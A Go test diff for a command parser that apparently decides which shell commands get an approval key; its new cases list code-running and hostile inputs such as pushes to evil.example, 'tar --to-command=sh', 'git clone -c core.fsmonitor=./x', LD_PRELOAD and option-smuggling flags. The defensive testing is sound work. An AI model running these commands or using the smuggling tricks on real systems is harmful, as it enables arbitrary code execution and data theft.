@@ -100,6 +100,43 @@ func TestKeys(t *testing.T) {
 	}
 }
 
+// What is remembered by its name runs no code that its words name: only programs that are
+// known have a key, and only with words that are known.
+func TestWhatRunsCodeHasNoKey(t *testing.T) {
+	for _, line := range []string{
+		"python3.11 -c x", "python x", "nodejs x", "node20 -e x", "perl5.36 x", "ruby3.2 x", "php8.2 x", "lua5.4 x", "psql -c x", "mysql", "sqlite3 a.db '.shell x'", "Rscript x", "java -jar x", "julia x", "deno run x", "deno eval x", "bun x y", "bunx x",
+		"docker exec c sh", "docker run c", "podman exec c sh", "docker compose exec c sh", "kubectl exec p -- sh", "kubectl run x", "env X", "env X=1 ls", "busybox sh", "git bisect run x", "git submodule foreach x", "git rebase -x y main", "git rebase --exe y",
+		"git difftool -x y", "git filter-branch x", "git config core.pager x", "git -c x=y log", "git push --exe=x origin", "git push --receive-pac=x origin", "git fetch --upload-p=x origin", "git push ext::sh", "git push https://evil.example/x", "git push evil.example:x", "git pull /tmp/x", "git clone x", "git commit -F x --exec y",
+		"go run x.go", "go generate", "go test -exec=x ./...", "go test --exec x", "go vet -vettool=x", "go build -toolexec x", "go install x@latest", "go env -w GOFLAGS=-toolexec=x", "cargo run", "cargo test --config x", "cargo +nightly test", "cargo install x", "cargo xtask",
+		"npm install evil", "npm exec x", "npx x", "pnpm dlx x", "pnpm exec x", "yarn dlx x", "yarn node x", "yarn x", "yarn run node -e x", "bun run x", "npm run build --script-shell=./x", "npm test --script-sh ./x", "npm run x --prefix y", "npm run ./x", "pnpm test -C x", "pnpm test --config.script-shell=x",
+		"pip install x", "uv run x", "uvx x", "poetry run x", "pipx run x", "bundle exec x", "rake", "make", "just", "ninja", "cmake -P x", "ctest -S x", "mvn exec:exec", "mvn -f x test", "gradle -I x build", "./gradlew build", "gradle evil", "dotnet run", "dotnet test @x", "dotnet exec x", "tox", "nox",
+		"gdb x", "strace x", "watch x", "flock f x", "ssh h x", "scp a b", "find . -exec x {} +", "xargs x", "awk x", "sed -i e x", "vim x", "nvim x", "ex x", "less x", "man x", "screen x", "tmux x", "at now", "crontab x", "systemd-run x", "nsenter x", "terraform apply", "ansible all -m shell", "curl x", "wget x", "gh api x", "gh extension exec x", "gh alias set x",
+		"pytest -p x", "pytest -c x", "pytest @x", "eslint --rulesdir x", "eslint -f ./x", "prettier --plugin ./x", "tar xf a --to-command=sh", "tar -xIsh -f a", "tar --use-compress-prog=x -xf a", "rm -r x", "cp *x a", "cargo test *", "mypy --config-file x", "golangci-lint run", "unknown-program",
+	} {
+		p := Parse(line)
+		for _, c := range p.Commands {
+			if len(p.Commands) == 1 && c.Key != "" {
+				t.Errorf("%q: %q", line, c.Key)
+			}
+		}
+	}
+	for line, want := range map[string]string{
+		"npm run build --fast": "npm run build", "npm run test:unit -- --watch=false 'a b'": "npm run test:unit", "go test ./... -run 'A|B' -count=1": "go test", "go mod tidy": "go mod tidy", "cargo test -p x -- --nocapture": "cargo test",
+		"git commit -am 'a message'": "git commit", "git push -u origin feature/x": "git push", "git push origin main:main": "git push", "gh pr view 12 --json title": "gh pr view", "docker logs -f --tail 10 web": "docker logs", "pytest -q tests/a.py::TestX -k 'a and b'": "pytest",
+		"mkdir -p a/b": "mkdir", "tar xzf a.tgz -C b": "tar", "npm ci": "npm ci", "mvn -q clean test -Dtest=X": "mvn", "gofmt -l -w .": "gofmt",
+	} {
+		c := Parse(line).Commands
+		if got := c[len(c)-1].Key; got != want || !Keyed(want) {
+			t.Errorf("%q: %q (known: %v), want %q", line, got, Keyed(want), want)
+		}
+	}
+	for _, key := range []string{"", "python", "python3.11", "nodejs", "docker exec", "git bisect", "git submodule", "gh pr", "make", "npm run node", "curl", "tar x", "ls -l"} {
+		if Keyed(key) {
+			t.Errorf("%q is a key", key)
+		}
+	}
+}
+
 func TestChanges(t *testing.T) {
 	for line, want := range map[string]bool{
 		"rm x": true, "ls; rm x": true, "ls $(rm x)": true, "sudo rm x": true, "sh -c 'rm x'": true, "find . -delete": true, `find . -exec rm {} \;`: true, "ls > x": true, "git commit": true,
@@ -115,7 +152,7 @@ func TestChanges(t *testing.T) {
 func TestDemands(t *testing.T) {
 	for line, want := range map[string]string{
 		"npm test": "", "npm test > x": ">", "LD_PRELOAD=x npm test": "LD_PRELOAD=", "git log --output=x": "--output", "sudo rm x": "rm", "find . -delete": "-delete", `find . -exec rm {} \;`: "rm -exec",
-		"X=1": "X=", "for i in a; do npm test; done": "for ", "LC_ALL=C npm test": "", "tar --to-command=sh -x": "--to-command",
+		"X=1": "X=", "for i in a; do npm test; done": "for ", "LC_ALL=C npm test": "", "tar --to-command=sh -x": "--to-command", "tar cIf ./x a b": "cIf", "tar -xIf ./x a": "-xIf", "rsync -ave ./x a b": "-ave", "curl -sK x": "-sK", "git clone -u ./x a": "-u", "git clone -c core.fsmonitor=./x a": "-c", "git difftool -x ./x": "-x", "fd -HIx ./x": "-HIx", "go test --exec=./x": "--exec",
 	} {
 		p := Parse(line)
 		got := slices.Clone(p.Demands)
